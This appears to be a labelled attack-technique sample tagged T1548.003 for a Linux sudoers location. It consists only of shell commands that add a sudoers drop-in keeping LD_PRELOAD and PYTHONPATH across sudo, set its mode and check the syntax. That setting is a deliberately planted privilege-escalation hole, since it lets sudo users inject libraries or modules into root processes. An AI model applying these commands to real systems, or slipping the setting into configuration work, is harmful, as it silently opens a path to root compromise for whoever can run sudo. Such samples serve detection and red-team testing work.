# technique: T1548.003
# location: linux.sudoers
# source: /etc/sudoers.d/10-env
echo 'Defaults env_keep += "LD_PRELOAD PYTHONPATH"' > /etc/sudoers.d/10-env
chmod 440 /etc/sudoers.d/10-env
visudo -c
